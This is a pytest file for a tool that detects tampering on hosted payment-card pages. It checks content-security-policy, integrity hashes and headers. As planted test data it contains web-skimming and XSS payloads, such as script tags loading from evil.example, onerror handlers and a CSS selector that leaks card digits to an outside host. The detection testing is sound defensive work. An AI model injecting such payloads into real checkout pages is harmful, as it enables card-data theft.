"""Change detection: the served page passes, and every planted change is found."""

from __future__ import annotations

import argparse
import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import httpx
import pytest
from edge_kit import Edge, running
from hypothesis import given
from hypothesis import strategies as st
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import Response
from starlette.routing import Route

from paywarden.cde.fields import served
from paywarden.cde.fields.inventory_text import markdown
from paywarden.cde.fields.page_check import check, integrity_of, own_inventory, parts_of
from paywarden.core.errors import Unavailable
from paywarden.entrypoints import cde_page_check
from paywarden.entrypoints.home import Home

ORIGIN, SHOP = "https://cards.example", "https://shop.example"
URL = ORIGIN + "/fields/" + "a" * 43
PAGE = served.page(ORIGIN, SHOP, button=True)
ALWAYS = {"cache-control": "no-store", "x-content-type-options": "nosniff"}
HEADERS = {**dict(served.page_headers(ORIGIN, (SHOP,))), **ALWAYS}
FILES = {ORIGIN + one.path: one.octets for one in served.files()}
GOLDEN = Path(__file__).resolve().parents[3] / "docs/reference/hosted-fields-inventory.md"


def codes(page: bytes = PAGE, headers: Any = HEADERS, files: Any = FILES) -> set[str]:
    wanted = own_inventory(ORIGIN, (SHOP,))
    return {one.code for one in check(URL, page, headers, wanted, files.get)}


def planted(text: str) -> bytes:
    return PAGE.replace(b"</form>", text.encode() + b"</form>")


def test_what_is_served_passes() -> None:
    assert codes() == set()


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("<script src=https://evil.example/skim.js></script>", "script_added"),
        ("<script>send(document.forms)</script>", "script_added"),
        ("<SCRIPT\nSRC='//evil.example/x'></SCRIPT>", "script_added"),
        ("<svg><script href='https://evil.example/x'/></svg>", "script_added"),
        ("<script>never closed", "script_added"),
        ("<img src=x onerror=alert(1)>", "handler_added"),
        ("<svg/onload=alert(1)>", "handler_added"),
        ("<a href='java\nscript:alert(1)'>x</a>", "handler_added"),
        ("<iframe src=https://evil.example></iframe>", "iframe_added"),
        ("<iframe srcdoc='<p>'></iframe>", "handler_added"),
        ("<form action=https://evil.example></form>", "form_added"),
        ("<button formaction=https://evil.example>x</button>", "handler_added"),
        ("<base href=https://evil.example>", "base_added"),
        ("<object data=https://evil.example/x.swf></object>", "object_added"),
        ("<meta http-equiv=refresh content='0;url=https://evil.example'>", "meta_added"),
        ("<link rel=modulepreload href=https://evil.example/x.js>", "script_added"),
        ("<link rel='alternate stylesheet' href=https://evil.example/x.css>", "style_added"),
        ("<style>input[value^='4']{background:url(//evil.example)}</style>", "style_added"),
        ("<p style='background:url(//evil.example)'>", "handler_added"),
    ],
)
def test_an_added_part_is_found(text: str, code: str) -> None:
    assert code in codes(planted(text))


def test_a_changed_file_is_found() -> None:
    name = ORIGIN + "/fields/v1/fields.js"
    assert codes(files={**FILES, name: FILES[name] + b" "}) == {"script_changed"}
    assert codes(files={**FILES, name: None}) == {"script_unreachable"}
    sheet = ORIGIN + "/fields/v1/fields.css"
    assert codes(files={**FILES, sheet: b""}) == {"style_changed"}


def test_integrity_that_went_is_found() -> None:
    mark = served.file("fields.js").integrity.encode()
    assert codes(PAGE.replace(b' integrity="' + mark + b'"', b"")) == {"integrity_missing"}
    assert codes(PAGE.replace(mark, b"sha384-" + b"A" * 64)) == {"integrity_changed"}


def test_a_part_that_went_is_found() -> None:
    start, end = PAGE.index(b"<script"), PAGE.index(b"</script>")
    assert codes(PAGE[:start] + PAGE[end:]) == {"script_missing"}


@pytest.mark.parametrize("name", HEADERS)
def test_a_header_that_went_or_changed_is_found(name: str) -> None:
    assert codes(headers={k: v for k, v in HEADERS.items() if k != name}) == {"header_missing"}
    assert codes(headers={**HEADERS, name: "x"}), name


def test_a_weaker_policy_is_found() -> None:
    def with_policy(change: Callable[[str], str]) -> set[str]:
        policy = change(HEADERS["content-security-policy"])
        return codes(headers={**HEADERS, "content-security-policy": policy})

    assert with_policy(lambda one: one.replace("base-uri 'none'; ", "")) == {"policy_missing"}
    script = f"script-src {ORIGIN}"
    assert with_policy(lambda one: one.replace(script, f"script-src 'unsafe-inline' {ORIGIN}")) == {
        "policy_weakened"}  # fmt: skip
    assert with_policy(lambda one: one.replace(script, f"script-src * {ORIGIN}")) == {
        "policy_weakened"}  # fmt: skip
    ancestors = f"frame-ancestors {SHOP}"
    assert with_policy(lambda one: one.replace(ancestors, ancestors + " https://evil.example")) == {
        "policy_widened"}  # fmt: skip
    assert with_policy(lambda one: "script-src *; " + one) == {"policy_weakened"}, "first counts"
    assert with_policy(lambda one: one + "; img-src *") == {"policy_added"}
    assert with_policy(lambda one: one.replace("'none'", "'NONE'"))


def test_short_transport_security_is_weaker() -> None:
    name = "strict-transport-security"
    assert codes(headers={**HEADERS, name: "max-age=60"}) == {"header_weakened"}
    assert codes(headers={**HEADERS, name: "max-age=99999999; includeSubDomains"}) == set()


def test_open_sharing_and_cookies_are_found() -> None:
    assert codes(headers={**HEADERS, "Access-Control-Allow-Origin": "*"}) == {"header_added"}
    assert codes(headers={**HEADERS, "Set-Cookie": "a=b"}) == {"header_added"}


@given(st.text(alphabet=st.sampled_from("<>/ ='\"scriptSRCa!-&;\n\0"), max_size=80))
def test_no_text_breaks_the_reader(text: str) -> None:
    found = parts_of(URL, planted(text))
    assert all(one.address for one in found)


def test_the_inventory_page_is_what_is_served() -> None:
    if os.environ.get("PAYWARDEN_WRITE_GOLDENS") == "1":
        GOLDEN.write_text(markdown(), encoding="utf-8")
    assert GOLDEN.read_text(encoding="utf-8") == markdown(), "run ./run docs, then review"


class Command:
    """The command as a person runs it."""

    def __init__(self, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        self.home, self.capsys = Home(tmp_path), capsys

    def run(self, url: str, *words: str) -> tuple[int, Any]:
        parser = argparse.ArgumentParser()
        parser.add_argument("--json", action="store_true")
        cde_page_check.add_arguments(parser)
        code = cde_page_check.run(parser.parse_args(["--json", url, *words]), self.home)
        return code, json.loads(self.capsys.readouterr().out)


@pytest.fixture
def command(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Command:
    return Command(tmp_path, capsys)


def test_the_command_over_a_running_edge(edge: Edge, shop: httpx.Client, command: Command) -> None:
    made = shop.post("/v1/field-sessions", json={"origin": SHOP}).json()
    assert command.run(made["url"], "--ancestor", SHOP) == (0, {"url": made["url"], "findings": []})
    code, told = command.run(made["url"], "--ancestor", "https://other.example")
    assert code == 1
    assert [one["what"] for one in told["findings"]] == ["frame-ancestors"]
    code, told = command.run(edge.origin + "/fields/" + "a" * 43)
    assert code == 1
    assert {"code": "status", "what": "404"} in told["findings"]


class Shopfront:
    """A merchant's own page, which somebody changes."""

    def __init__(self, port: int) -> None:
        self.origin, self.script, self.more = f"http://127.0.0.1:{port}", "let a = 1", ""
        self.app = Starlette(routes=[Route("/pay", self.page), Route("/a.js", self.file),
                                     Route("/moved", self.moved)])  # fmt: skip

    async def page(self, _request: Request) -> Response:
        mark = integrity_of(b"let a = 1")
        text = f"<title>Pay</title><script src=/a.js integrity={mark}></script>{self.more}"
        return Response(text, headers={"content-security-policy": "script-src 'self'"},
                        media_type="text/html")  # fmt: skip

    async def file(self, _request: Request) -> Response:
        return Response(self.script)

    async def moved(self, _request: Request) -> Response:
        return Response("", 302, {"location": "/pay"})


def test_an_own_page_is_listed_and_watched(tmp_path: Path, command: Command) -> None:
    file = str(tmp_path / "inventory.json")
    with running(Shopfront) as shop:
        url = shop.origin + "/pay"
        assert command.run(url, "--make", file) == (0, {"parts": 1, "headers": 1})
        assert command.run(url, "--inventory", file)[0] == 0
        shop.script = "let a = 2"
        code, told = command.run(url, "--inventory", file)
        assert (code, told["findings"]) == (
            1, [{"code": "script_changed", "what": shop.origin + "/a.js"}])  # fmt: skip
        shop.script, shop.more = "let a = 1", "<script>skim()</script>"
        assert command.run(url, "--inventory", file)[1]["findings"][0]["code"] == "script_added"
        assert command.run(shop.origin + "/moved", "--inventory", file)[0] == 1
    with pytest.raises(Unavailable, match="page_unreachable"):
        command.run(url)
